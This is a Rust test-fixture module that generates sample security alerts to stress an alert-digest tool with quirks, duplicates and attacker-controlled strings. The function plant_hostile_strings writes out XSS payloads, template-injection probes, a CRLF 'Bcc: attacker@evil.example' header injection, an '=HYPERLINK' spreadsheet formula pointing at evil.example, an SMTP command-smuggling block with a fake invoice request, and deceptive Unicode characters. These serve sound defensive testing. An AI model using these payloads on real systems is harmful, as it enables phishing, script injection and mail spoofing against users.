//! What turns ordinary sample alerts into the cases the digest must survive: test alerts,
//! unknown enum members, odd identities, hostile strings and duplicates.

use chrono::{DateTime, TimeDelta, Utc};

use super::super::rng::Rng;
use super::super::tables::{ANALYSTS, arm};
use super::{Alert, J, Log, any_shape, investigate, resolve};

/// The first alert not yet special that matches, scanning from the 41st so that the first
/// alert of each customer stays ordinary; it is marked special.
fn claim(alerts: &mut [Alert], matches: impl Fn(&Alert) -> bool) -> &mut Alert {
    let len = alerts.len();
    let index = (40..len)
        .chain(0..40.min(len))
        .find(|&i| !alerts[i].special && matches(&alerts[i]))
        .expect("an alert fit for the special case");
    alerts[index].special = true;
    &mut alerts[index]
}

/// Like [`claim`], but prefers an active alert of the given type from the last 30 days, so that
/// the planted text fits the alert it sits in; otherwise any active alert from the last 10 days.
fn claim_typed<'a>(
    alerts: &'a mut [Alert],
    reference: DateTime<Utc>,
    type_name: &str,
) -> &'a mut Alert {
    let typed =
        |a: &Alert| recent_active(a, reference, 30) && a.type_name.eq_ignore_ascii_case(type_name);
    if alerts.iter().any(|a| !a.special && typed(a)) {
        claim(alerts, typed)
    } else {
        claim(alerts, |a| recent_active(a, reference, 10))
    }
}

fn recent_active(alert: &Alert, reference: DateTime<Utc>, days: i64) -> bool {
    alert.status == "active" && alert.age(reference) < TimeDelta::days(days)
}

/// Test alerts, unknown enum members, odd identities and a reopened alert.
pub(super) fn add_quirks(alerts: &mut [Alert], rng: &mut Rng, reference: DateTime<Utc>) {
    for n in 0..5 {
        let alert = claim(alerts, |a| recent_active(a, reference, 30));
        alert.is_test = J::Bool(true);
        alert.description = String::from(
            "Test alert raised from Partner Center to check that security alert notifications \
             reach you. No action is required.",
        );
        if n == 4 {
            alert.resolve_as(rng, reference, "ignore");
        }
    }

    let alert = claim(alerts, |a| recent_active(a, reference, 10));
    alert.subscription = None;
    alert.resources.clear();
    alert.id = rng.guid();

    let alert = claim(alerts, |a| recent_active(a, reference, 20));
    alert.customer = String::new();
    alert.reseller = None;

    // The same tenant in upper case, as in one of Microsoft's samples.
    let alert = claim(alerts, |a| recent_active(a, reference, 14));
    alert.customer = alert.customer.to_uppercase();

    let alert = claim(alerts, |a| recent_active(a, reference, 14));
    let mut log = investigate(rng, alert.detected, reference);
    log.to = "escalated";
    alert.status = "escalated";
    alert.logs = vec![log];

    claim(alerts, |a| recent_active(a, reference, 7)).severity = "critical";
    claim(alerts, |a| recent_active(a, reference, 30)).severity = "unknownFutureValue";
    claim(alerts, |a| recent_active(a, reference, 30)).confidence = "unknownFutureValue";

    // Active while the resolution fields are filled in: resolved, then reopened.
    let alert = claim(alerts, |a| {
        recent_active(a, reference, 40) && a.age(reference) > TimeDelta::days(10)
    });
    let (resolution, mut logs) = resolve(rng, alert.detected, reference);
    let reopened = resolution.on + TimeDelta::hours(rng.between(2, 48));
    logs.push(Log {
        from: "resolved",
        to: "active",
        by: ANALYSTS[0],
        at: reopened.min(reference - TimeDelta::minutes(1)),
        shape: any_shape(rng),
    });
    alert.resolution = Some(resolution);
    alert.logs = logs;

    // Types compare case-insensitively: a spelling never documented.
    for _ in 0..2 {
        claim(alerts, |a| a.type_name == "CryptoMining").type_name = String::from("cryptoMining");
    }
}

/// Strings an attacker could plant in resource names and tags, which the service copies into
/// descriptions, resource ids and details. Ids, tenants and detection times stay valid.
pub(super) fn plant_hostile_strings(alerts: &mut [Alert], reference: DateTime<Utc>) {
    let alert = claim_typed(alerts, reference, "networkConnectionsToCryptoMiningPools");
    let sub = alert.subscription.clone().unwrap_or_default();
    let group = "rg-<script>alert(1)</script>";
    alert.resources = vec![(
        arm(&sub, group, "Microsoft.Compute/virtualMachines/vm-web-01"),
        "AzureResource",
    )];
    alert.description = format!(
        "Network traffic from virtual machine vm-web-01 in resource group {group} to a known \
         crypto currency mining pool was detected. Review the virtual machine and stop it if the \
         activity is not expected."
    );

    let alert = claim_typed(
        alerts,
        reference,
        "AzureContainerInstances_AnomalousDeployment",
    );
    alert
        .display_name
        .push_str(" \"><img src=x onerror=alert(1)>");
    alert.detail(
        "ContainerImage",
        "registry.example/\"><img src=x onerror=alert(1)>:latest",
    );

    let alert = claim_typed(alerts, reference, "VM_AnomalousDeployment");
    let sub = alert.subscription.clone().unwrap_or_default();
    alert.resources = vec![(
        arm(
            &sub,
            "rg-prod-app",
            "Microsoft.Compute/virtualMachines/vm-</td></table>-02",
        ),
        "Microsoft.Compute/virtualMachines",
    )];
    alert
        .description
        .push_str(" Deployed by template </td></table><h1>Urgent: call +1-555-0100</h1>.");
    alert.detail("Tag_owner", "{{7*7}} ${7*7} <%= 7*7 %>");

    let alert = claim_typed(alerts, reference, "ARM_AnomalousResourceConsumption");
    alert.display_name = String::from(
        "Action Required: Anomalous Resource Consumption Detected {{7*7}}\r\n\
         Bcc: attacker@evil.example",
    );
    alert.detail("Note", "+1+1");

    let alert = claim(alerts, |a| {
        recent_active(a, reference, 10) && !a.resources.is_empty()
    });
    alert.display_name = String::from(r#"=HYPERLINK("http://evil.example","x")"#);
    alert.description =
        String::from("@SUM(1) was found in the resource tag copied into this alert.");
    alert.detail("CostCenter", "-2+3");
    alert.detail("Tag_budget", "=HYPERLINK(\"http://evil.example\",\"x\")");

    let alert = claim_typed(alerts, reference, "ARM_SuspiciousOperations");
    alert.description = String::from(
        "Operations were performed by a deployment whose description reads:\r\n\
         .\r\n\
         MAIL FROM:<attacker@evil.example>\r\n\
         RCPT TO:<billing@contoso-partner.example>\r\n\
         DATA\r\n\
         Subject: updated bank details\r\n\
         \r\n\
         Please pay the attached invoice.\r\n\
         .\r\n\
         QUIT\r\n",
    );
    alert.detail("DeploymentName", "deploy\n.\nQUIT");

    let alert = claim_typed(alerts, reference, "CryptoMining");
    let sub = alert.subscription.clone().unwrap_or_default();
    alert.resources = vec![
        (
            arm(
                &sub,
                "rg-dev",
                "Microsoft.Compute/virtualMachines/vm-\u{202e}txt.exe",
            ),
            "Microsoft.Compute/virtualMachines",
        ),
        (
            arm(
                &sub,
                "rg-dev",
                "Microsoft.Compute/virtualMachines/vm-miner-\u{26cf}\u{fe0f}-01",
            ),
            "Microsoft.Compute/virtualMachines",
        ),
    ];
    alert.description = String::from(
        "Crypto mining was detected on vm-\u{202e}txt.exe\u{202c} and vm-miner-\u{26cf}\u{fe0f}-01 \
         \u{1f4b0}. Owner tag: pay\u{200b}ment\u{200d}s\u{feff}-team.",
    );
    alert.detail("WalletAddress", "48Adk\u{200b}\u{200b}9Lm2x\u{200d}QpZ");
}

/// The same alert delivered twice: later observed, resolved (with its id in upper case), or
/// moved to investigating. The copies go to the end of the page.
pub(super) fn duplicates(
    alerts: &mut [Alert],
    rng: &mut Rng,
    reference: DateTime<Utc>,
) -> Vec<Alert> {
    let mut copies = Vec::new();
    for n in 0..3 {
        let original = claim(alerts, |a| {
            recent_active(a, reference, 20) && a.age(reference) > TimeDelta::days(2)
        });
        let mut copy = original.clone();
        let later = original.detected + TimeDelta::hours(rng.between(2, 40)) + rng.jitter();
        copy.last_observed = later.min(reference - TimeDelta::minutes(10));
        match n {
            0 => {}
            1 => {
                copy.id = copy.id.to_uppercase();
                copy.resolve_as(rng, reference, "fraud");
            }
            _ => {
                copy.status = "investigating";
                copy.logs = vec![investigate(rng, original.detected, reference)];
            }
        }
        copies.push(copy);
    }
    copies
}
